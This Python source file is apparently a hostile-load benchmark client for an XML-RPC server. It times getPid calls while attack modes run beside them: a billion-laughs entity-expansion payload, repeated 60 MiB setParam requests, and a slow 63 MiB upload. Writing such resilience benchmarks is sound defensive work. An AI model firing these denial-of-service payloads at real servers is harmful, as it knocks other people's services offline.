"""Clients for the hostile-load benchmark: a latency probe, and the attackers it runs beside.

Usage: python hostile_client.py PORT SECONDS MODE
  probe       getPid on one keep-alive socket every 5 ms; prints each call's latency in ms
  entity      billion-laughs bodies back to back on one keep-alive socket; prints the count
  bigparam    a 60 MiB setParam, then the next one as soon as it is answered; prints the count
  slowbody    a 63 MiB setParam sent over SECONDS (a slow client); prints 1 once answered

It runs on the system python too, so that every master is driven by the same client.
"""

import socket
import sys
import time

#: A 681-byte billion-laughs document: ten levels of ten references, about 10^9 characters
#: once expanded. XML-RPC never needs a DTD, so a server may refuse it without parsing.
LAUGHS = (
    b"<?xml version='1.0'?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n<methodCall><methodName>getPid</methodName><params><param><value>"
    + b"<string>&lol9;</string></value></param></params></methodCall>\n"
)


def request(body, host="127.0.0.1"):
    head = (
        f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/xml\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def set_param_body(size):
    value = b"x" * size
    return (
        b"<?xml version='1.0'?>\n<methodCall><methodName>setParam</methodName><params>"
        b"<param><value><string>/hostile</string></value></param>"
        b"<param><value><string>/big</string></value></param>"
        b"<param><value><string>" + value + b"</string></value></param>"
        b"</params></methodCall>\n"
    )


class Client:
    """One keep-alive connection; ``call`` sends a request and reads its whole answer."""

    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""

    def send(self, data, seconds=0.0):
        if seconds <= 0:
            self.sock.sendall(data)
            return
        piece = max(1, len(data) // int(seconds * 20))
        for start in range(0, len(data), piece):
            self.sock.sendall(data[start : start + piece])
            time.sleep(0.05)

    def answer(self):
        while True:
            end = self.buf.find(b"\r\n\r\n")
            if end >= 0:
                head = self.buf[:end].lower()
                i = head.find(b"content-length:")
                length = int(head[i + 15 :].split(b"\r\n", 1)[0])
                if len(self.buf) >= end + 4 + length:
                    body = self.buf[end + 4 : end + 4 + length]
                    self.buf = self.buf[end + 4 + length :]
                    if b"connection: close" in head:
                        self.sock.close()
                    return body
            data = self.sock.recv(262144)
            if not data:
                raise SystemExit("server closed the connection")
            self.buf += data


def probe(port, seconds):
    client = Client(port)
    call = request(
        b"<?xml version='1.0'?>\n<methodCall><methodName>getPid</methodName><params>"
        b"<param><value><string>/probe</string></value></param></params></methodCall>\n"
    )
    deadline = time.perf_counter() + seconds
    while time.perf_counter() < deadline:
        start = time.perf_counter()
        client.send(call)
        client.answer()
        print(f"{(time.perf_counter() - start) * 1000:.3f}", flush=True)
        time.sleep(0.005)


def repeat(port, seconds, body):
    done = 0
    client = Client(port)
    deadline = time.perf_counter() + seconds
    while time.perf_counter() < deadline:
        client.send(request(body))
        client.answer()
        if client.sock.fileno() < 0:  # the server closed it after a refusal
            client = Client(port)
        done += 1
    print(done)


def main():
    port, seconds, mode = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
    if mode == "probe":
        probe(port, seconds)
    elif mode == "entity":
        repeat(port, seconds, LAUGHS)
    elif mode == "bigparam":
        repeat(port, seconds, set_param_body(60 * 1024 * 1024))
    elif mode == "slowbody":
        client = Client(port)
        client.send(request(set_param_body(63 * 1024 * 1024)), seconds)
        client.answer()
        print(1)
    else:
        raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
